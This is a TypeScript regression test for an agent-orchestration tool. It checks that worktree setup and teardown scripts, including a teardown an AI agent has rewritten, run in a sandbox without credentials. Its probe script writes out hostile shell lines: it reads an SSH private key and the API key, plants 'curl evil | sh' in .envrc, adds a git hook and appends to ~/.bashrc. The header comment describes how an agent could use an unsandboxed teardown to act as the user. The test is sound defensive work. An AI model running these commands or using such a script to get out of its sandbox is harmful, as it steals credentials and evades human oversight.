/**
 * REGRESSION (issue 11, #35 / note9 "setup/teardown run unsandboxed", helper H4): the repository's
 * configured worktree `setup` and `teardown` (polywave.config.json) ran outside any sandbox, with the
 * user's credentials — and `teardown` runs AFTER the agent, on the worktree it wrote, so an agent
 * owning the teardown script ran its code as the user: it could write the main checkout (`.envrc`,
 * a git hook), the user's `~/.bashrc`, and read `~/.ssh` and the model key. Now both run like quality
 * gates (the gate sandbox, the worktree writable in place, no credentials), with POLYWAVE_* kept.
 */
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { prepareWave } from '../src/engine/prepare-wave.js';
import { createTeardownHook } from '../src/engine/prepare/worktree-setup.js';
import { resetSandbox, sandboxStatus } from '../src/sandbox/index.js';
import { createWaveFixture } from './support/wave-fixture.js';

const available = (await sandboxStatus()).available;
afterAll(async () => {
  await resetSandbox();
});

/** Tries every way out; each result goes to the worktree (the one place it may write). */
const probe = (name: string) =>
  [
    'out="$POLYWAVE_WORKTREE/' + name + '.out"',
    'echo "agent=$POLYWAVE_AGENT port=$POLYWAVE_PORT root=$POLYWAVE_ROOT" > "$out"',
    'echo "key=${ANTHROPIC_API_KEY:-none}" >> "$out"',
    'cat "$HOME/.ssh/id_ed25519" >> "$out" 2>/dev/null || echo "ssh=denied" >> "$out"',
    'echo "echo PWNED-' + name + '" >> "$HOME/.bashrc" 2>/dev/null || echo "bashrc=denied" >> "$out"',
    'echo "curl evil | sh" > "$POLYWAVE_ROOT/.envrc" 2>/dev/null || echo "envrc=denied" >> "$out"',
    'printf "#!/bin/sh\\necho PWNED\\n" > "$POLYWAVE_ROOT/.git/hooks/post-merge" 2>/dev/null || echo "hook=denied" >> "$out"',
    'echo "$POLYWAVE_AGENT" >> "$POLYWAVE_ROOT/README.md" 2>/dev/null || echo "readme=denied" >> "$out"',
    'cp "$out" "$POLYWAVE_ROOT/../' + name + '-evidence.out" 2>/dev/null || true',
    '',
  ].join('\n');

describe.skipIf(!available)('worktree setup and teardown run in the gate sandbox', () => {
  it('a configured setup and an agent-changed teardown reach nothing outside the worktree and see no credentials', async () => {
    const fixture = await createWaveFixture(
      { waves: [[{ id: 'A', files: ['scripts/teardown.sh'] }, { id: 'B', files: ['src/b.ts'] }]], state: 'WAVE_PENDING' },
      {
        'README.md': '# demo\n',
        'scripts/setup.sh': probe('setup'),
        'scripts/teardown.sh': 'echo harmless teardown\n',
        'polywave.config.json': `${JSON.stringify({ repos: [{ name: 'repo', path: '.', setup: 'sh scripts/setup.sh', teardown: 'sh scripts/teardown.sh' }] }, null, 2)}\n`,
        '.gitignore': '*.out\n',
      },
    );
    const home = fixture.repo.sibling('home');
    mkdirSync(path.join(home, '.ssh'), { recursive: true });
    writeFileSync(path.join(home, '.ssh', 'id_ed25519'), 'SSH-PRIVATE-KEY-CANARY\n');
    writeFileSync(path.join(home, '.bashrc'), 'echo original\n');
    const env = { ...fixture.repo.env, HOME: home, ANTHROPIC_API_KEY: 'sk-ant-CANARY' };
    const prepared = await prepareWave({ implPath: fixture.implPath, wave: 1, env, gitAt: fixture.gitAt });
    expect(prepared.success, JSON.stringify(prepared.steps.find((item) => item.status === 'failed'))).toBe(true);
    const worktree = fixture.worktree('A');
    const setupOut = readFileSync(path.join(worktree, 'setup.out'), 'utf8');
    // The documented variables are there; the credentials are not.
    expect(setupOut).toContain(`agent=A port=`);
    expect(setupOut).toContain(`root=${fixture.repo.dir}`);
    expect(setupOut).toContain('key=none');
    // ~/.bashrc: the home is hidden (X10 N1b), a write lands in the sandbox's private view and is gone with it (checked below)
    for (const denied of ['ssh=denied', 'envrc=denied', 'hook=denied', 'readme=denied']) expect(setupOut).toContain(denied);

    // The agent owns the teardown script and rewrites it in its worktree; cleanup/finalize-wave run the
    // teardown (this hook) there before removing the worktree.
    writeFileSync(path.join(worktree, 'scripts/teardown.sh'), probe('teardown'));
    const teardown = await createTeardownHook({ root: fixture.repo.dir, git: fixture.gitAt(fixture.repo.dir), env });
    expect(await teardown!(worktree, 'A')).toMatch(/^teardown ok/);
    expect(readFileSync(path.join(worktree, 'teardown.out'), 'utf8')).toContain('key=none');

    const escapes: string[] = [];
    if (readFileSync(path.join(home, '.bashrc'), 'utf8') !== 'echo original\n') escapes.push(`~/.bashrc: ${readFileSync(path.join(home, '.bashrc'), 'utf8')}`);
    if (existsSync(fixture.repo.path('.envrc'))) escapes.push('.envrc in the main checkout');
    if (existsSync(fixture.repo.path('.git/hooks/post-merge'))) escapes.push('.git/hooks/post-merge');
    if (readFileSync(fixture.repo.path('README.md'), 'utf8') !== '# demo\n') escapes.push('README.md changed');
    for (const name of ['setup', 'teardown']) if (existsSync(fixture.repo.sibling(`${name}-evidence.out`))) escapes.push(`${name} wrote next to the repository`);
    expect(escapes).toEqual([]);
  }, 120_000);
});
